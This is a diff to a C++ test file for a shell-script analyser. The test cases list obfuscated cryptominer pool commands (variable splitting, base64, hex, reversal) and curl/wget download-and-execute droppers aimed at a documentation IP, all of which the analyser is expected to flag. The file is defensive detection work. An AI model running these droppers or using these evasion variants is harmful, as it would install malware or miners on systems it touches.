@@ -34,15 +34,17 @@ struct Case {
 // Each of these passed the old text checks or is a variant of one that did.
 const Case kDenied[] = {
     {"variables split the URL", "A=stratum+tcp; B=//pool.example:3333; ./w -o $A:$B", "command.stratum"},
-    {"exported and braced", "export P1=stratum+ssl\nexport P2=pool.example:443\n./w --url ${P1}://${P2}", "command.stratum"},
+    {"exported and braced", "export P1=stratum+ssl\nexport P2=pool.example:443\n./w --url ${P1}://${P2}",
+     "command.stratum"},
     {"default values", "./w -o ${POOL:-stratum+tcp://pool.example:3333}", "command.stratum"},
     {"pattern substitution", "S=xtratum+tcp://pool.example:3333; ./w -o ${S/x/s}", "command.stratum"},
     {"prefix removal", "S=zzstratum+tcp://pool.example:3333; ./w -o ${S#zz}", "command.stratum"},
     {"ANSI-C quoting", "./w -o $'\\x73\\x74\\x72\\x61\\x74\\x75\\x6d+tcp://pool.example:3333'", "command.stratum"},
     {"base64 piped to base64 -d", "echo c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw== | base64 -d", "command.stratum"},
-    {"base64 decoded into a variable", "u=$(echo c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw== | base64 --decode)\n./w -o \"$u\"",
+    {"base64 decoded into a variable",
+     "u=$(echo c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw== | base64 --decode)\n./w -o \"$u\"", "command.stratum"},
+    {"base64 anywhere (a JSON config)", "./w --config eyJ1cmwiOiAic3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMyJ9",
      "command.stratum"},
-    {"base64 anywhere (a JSON config)", "./w --config eyJ1cmwiOiAic3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMyJ9", "command.stratum"},
     {"hex dump", "echo 7374726174756d2b7463703a2f2f706f6f6c2e6578616d706c653a33333333 | xxd -r -p", "command.stratum"},
     {"printf pieces", "./w -o \"$(printf '%s%s' stratum+tcp :)//pool.example:3333\"", "command.stratum"},
     {"reversed", "./w -o $(echo 3333:elpmaxe.loop//:pct+mutarts | rev)", "command.stratum"},
@@ -64,17 +66,20 @@ const Case kDenied[] = {
     {"here-string", "bash <<< \"$(curl -s http://203.0.113.9/i)\"", "command.dropper"},
     {"downloaded content as the command", "$(curl -s http://203.0.113.9/cmd)", "command.dropper"},
     {"curl -o; chmod 755; ./x", "curl -o x http://203.0.113.9/m; chmod 755 x; ./x", "command.dropper"},
-    {"combined flags and &&", "curl -fsSLo /tmp/k http://203.0.113.9/k && chmod +x /tmp/k && /tmp/k", "command.dropper"},
+    {"combined flags and &&", "curl -fsSLo /tmp/k http://203.0.113.9/k && chmod +x /tmp/k && /tmp/k",
+     "command.dropper"},
     {"wget's default file name", "wget http://203.0.113.9/kworker; chmod +x kworker; ./kworker", "command.dropper"},
     {"curl -O then sh", "curl -LO http://203.0.113.9/m.sh; sh m.sh", "command.dropper"},
     {"redirected download", "curl http://203.0.113.9/m > m; chmod +x m; ./m", "command.dropper"},
-    {"moved before running", "curl -s http://203.0.113.9/p -o /tmp/p; mv /tmp/p /tmp/kw; chmod +x /tmp/kw; /tmp/kw", "command.dropper"},
+    {"moved before running", "curl -s http://203.0.113.9/p -o /tmp/p; mv /tmp/p /tmp/kw; chmod +x /tmp/kw; /tmp/kw",
+     "command.dropper"},
     {"downloader in a variable", "D=curl; $D -s http://203.0.113.9/i | sh", "command.dropper"},
     {"command line in a variable", "C=\"curl -s http://203.0.113.9/i\"; $C | sh", "command.dropper"},
     {"unpacked archive", "curl -sL http://203.0.113.9/a.tgz | tar xz; ./xmr/run --bg", "command.dropper"},
     {"base64 script piped to sh", "echo Y3VybCAtcyBodHRwOi8veC9pIHwgc2g= | base64 -d | sh", "command.dropper"},
     {"downloaded base64 piped to sh", "curl -s http://203.0.113.9/b | base64 -d | sh", "command.dropper"},
-    {"script written then run", "cat > /tmp/s.sh <<'EOF'\ncurl -s http://203.0.113.9/i | sh\nEOF\nsh /tmp/s.sh", "command.dropper"},
+    {"script written then run", "cat > /tmp/s.sh <<'EOF'\ncurl -s http://203.0.113.9/i | sh\nEOF\nsh /tmp/s.sh",
+     "command.dropper"},
     {"nested sh -c", "sh -c 'bash -c \"curl -s http://203.0.113.9/i | sh\"'", "command.dropper"},
     {"env wrapper", "env -i PATH=/bin nohup sh -c \"$(curl -s http://203.0.113.9/i)\"", "command.dropper"},
 };
@@ -104,7 +109,8 @@ TEST(ShellAnalysisTest, ArgvIsReadAsKubernetesRunsIt) {
 TEST(ShellAnalysisTest, ProgramsInOtherLanguagesHaveTheirCommandStringsRead) {
   auto r = analyse_script("import os\nos.system(\"curl -s http://203.0.113.9/i | sh\")\n", ProgramKind::Program);
   EXPECT_TRUE(rules_of(r).count("command.dropper")) << describe(r);
-  r = analyse_script("import subprocess\nsubprocess.run('wget -qO- http://x/i | bash', shell=True)\n", ProgramKind::Program);
+  r = analyse_script("import subprocess\nsubprocess.run('wget -qO- http://x/i | bash', shell=True)\n",
+                     ProgramKind::Program);
   EXPECT_TRUE(rules_of(r).count("command.dropper")) << describe(r);
   EXPECT_EQ(program_kind({"python3"}), ProgramKind::Program);
   EXPECT_EQ(program_kind({"bash"}), ProgramKind::Shell);
